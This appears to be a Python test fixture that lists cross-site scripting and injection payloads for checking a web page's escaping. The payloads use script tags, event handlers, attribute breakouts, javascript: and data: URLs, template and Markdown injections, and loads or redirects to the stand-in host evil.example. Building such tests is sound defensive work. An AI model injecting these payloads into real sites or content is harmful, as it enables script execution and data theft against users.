"""Texts that try to become part of a page, each in another way. Knows no page.

Each calls `alert` or fetches `https://evil.example` where it succeeds, so that a test sees it. Most
are short enough for any field; `LONG_TEXT` has all of them, for where a text may be long.
"""

from typing import Final

_RLO: Final = "\u202e"  # writes what follows from right to left
_ZERO_WIDTH: Final = "\u200b"

VECTORS: Final[tuple[str, ...]] = (
    # elements that run
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>alert(1)",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script >",
    "<script\n>alert(1)</script\n>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "</template><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    # handlers of events
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror=alert`1`",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src onloadstart=alert(1)>",
    "<a onmouseover=alert(1)>over</a>",
    "<marquee onstart=alert(1)>",
    "<dialog open onclose=alert(1)>",
    "<p id=x tabindex=1 onfocus=alert(1)>#x",
    # out of an attribute
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    "` onmouseover=alert(1)",
    '"/><svg onload=alert(1)>',
    "x onclick=alert(1) y",
    '" hx-get="https://evil.example" hx-trigger="load',
    '<div hx-get="/home" hx-trigger="load" hx-on::load="alert(1)">',
    '<button data-copy="x" formaction="javascript:alert(1)">',
    # addresses
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    '<a href="javascript:alert(1)">go</a>',
    '<a href="&#106;avascript:alert(1)">go</a>',
    '<form action="https://evil.example"><button>send</button></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<iframe src="javascript:alert(1)"></iframe>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="https://evil.example/x.svg">',
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml,<svg onload=alert(1)>"></use></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><mtext></p><img src=x onerror="alert(1)"></mtext></math>',
    "<math><mi//xlink:href='javascript:alert(1)'>x",
    '<math><maction actiontype="statusline#https://evil.example">x</maction></math>',
    # styles
    '<style>@import "https://evil.example/x.css";</style>',
    "<style>body{background:url(https://evil.example/x)}</style>",
    '<div style="background:url(https://evil.example/x)">',
    '<p style="position:fixed;inset:0;z-index:9">over all</p>',
    # templates
    "{{ 7|add:7 }}{% debug %}",
    "{% load static %}{% include 'ollamasite/base.html' %}",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "{{ .System }}{{ range .Messages }}{{ end }}",
    # Markdown
    "[go](javascript:alert(1))",
    "[go](  JAVASCRIPT:alert(1) )",
    "[go](data:text/html,<script>alert(1)</script>)",
    "[go][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/x.png)",
    '![x" onerror="alert(1)](https://evil.example/x.png "t")',
    '[x](https://evil.example" onmouseover="alert(1))',
    '[x](/home "</a><script>alert(1)</script>")',
    "```<script>alert(1)</script>\ncode\n```",
    '```" onmouseover="alert(1)\ncode\n```',
    "`</code><img src=x onerror=alert(1)>`",
    "$\\href{javascript:alert(1)}{x}$",
    "$$\\text{<img src=x onerror=alert(1)>}$$",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "> <script>alert(1)</script>",
    "- [ ] <input onfocus=alert(1) autofocus>",
    # characters
    f"{_RLO}<script>alert(1)</script>",
    f"<{_ZERO_WIDTH}script>alert(1)</{_ZERO_WIDTH}script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\u2028<img src=x onerror=alert(1)>\u2029",
    "<img src=x onerror=\\u0061lert(1)>",
    '=HYPERLINK("https://evil.example")',
    "W" * 90,
)
LONG_TEXT: Final = "\n\n".join(VECTORS)


def vector(number: int, limit: int = 10_000) -> str:
    """Return one of them; after the last comes the first. Cut where a field takes no more."""
    return VECTORS[number % len(VECTORS)][:limit]


def line(number: int, limit: int = 10_000) -> str:
    """Return one of them for a field that takes one line without control characters."""
    told = "".join(each if each.isprintable() else " " for each in vector(number))
    return told[:limit].strip()
